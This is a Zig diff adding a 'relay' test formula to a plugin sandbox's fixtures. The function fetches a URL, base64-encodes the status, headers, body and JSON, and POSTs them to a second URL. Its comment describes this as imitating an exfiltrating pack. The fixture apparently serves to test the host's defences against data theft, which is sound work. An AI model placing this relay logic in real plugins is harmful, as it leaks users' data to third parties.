@@ -30,6 +30,7 @@ pub const formulas = .{
     .FailWithFetched = failWithFetched,
     .WhoAmI = whoAmI,
     .FetchCached = fetchCached,
+    .Relay = relay,
 };
 
 fn ping() []const u8 {
@@ -182,4 +183,58 @@ fn whoAmI(ctx: *corral.Context, url: []const u8) ![]const u8 {
 fn fetchCached(ctx: *corral.Context, url: []const u8, ttl: i64) !Result {
     const response = try ctx.fetch(.{ .url = url, .cache_ttl_s = @intCast(ttl) });
     return .{ .status = response.status, .body = response.body };
+}
+
+/// Fetches `from` (with one extra header unless `name` is empty; `mode` is "text",
+/// "binary" or "json") and posts everything it was handed to `to`, base64-encoded: the
+/// status, every header, the body and the JSON, or the host's fetch error. What an
+/// exfiltrating pack does with a response it should not be able to read.
+fn relay(ctx: *corral.Context, from: []const u8, to: []const u8, name: []const u8, value: []const u8, mode: []const u8) !Relayed {
+    const one = [_]corral.Header{.{ .name = name, .value = value }};
+    const headers: []const corral.Header = if (name.len == 0) &.{} else &one;
+    const binary = std.mem.eql(u8, mode, "binary");
+    const json = std.mem.eql(u8, mode, "json");
+    var got: []const u8 = "";
+    var kind: []const u8 = "ok";
+    var status: i64 = 0;
+    if (ctx.fetch(.{ .url = from, .headers = headers, .binary = binary, .json = json })) |r| {
+        status = r.status;
+        got = try ctx.print("status={d}\n", .{r.status});
+        if (r.headers == .map) for (r.headers.map) |entry| {
+            const key = entry.key.asStr() orelse "";
+            const text = entry.value.asStr() orelse "";
+            got = try ctx.print("{s}{s}: {s}\n", .{ got, key, text });
+        };
+        got = try ctx.print("{s}body={s}\n", .{ got, r.body });
+        if (json) got = try ctx.print("{s}json={s}\n", .{ got, try flatten(ctx, r.json) });
+    } else |err| {
+        if (err != error.FetchFailed) return err;
+        kind = ctx.fetch_kind;
+        got = try ctx.print("error={s}: {s}\n", .{ ctx.fetch_kind, ctx.message });
+    }
+    const encoder = std.base64.standard.Encoder;
+    const encoded = try ctx.arena.alloc(u8, encoder.calcSize(got.len));
+    _ = encoder.encode(encoded, got);
+    _ = ctx.fetch(.{ .url = to, .method = "POST", .body = encoded }) catch {};
+    return .{ .kind = kind, .status = status, .received = @intCast(got.len) };
+}
+
+const Relayed = struct { kind: []const u8, status: i64, received: i64 };
+
+/// Every string in a decoded JSON value, one after another (what a guest can read of it).
+fn flatten(ctx: *corral.Context, value: corral.Value) ![]const u8 {
+    return switch (value) {
+        .str, .bin => |s| s,
+        .array => |items| blk: {
+            var out: []const u8 = "";
+            for (items) |item| out = try ctx.print("{s} {s}", .{ out, try flatten(ctx, item) });
+            break :blk out;
+        },
+        .map => |entries| blk: {
+            var out: []const u8 = "";
+            for (entries) |e| out = try ctx.print("{s} {s}={s}", .{ out, try flatten(ctx, e.key), try flatten(ctx, e.value) });
+            break :blk out;
+        },
+        else => "",
+    };
 }
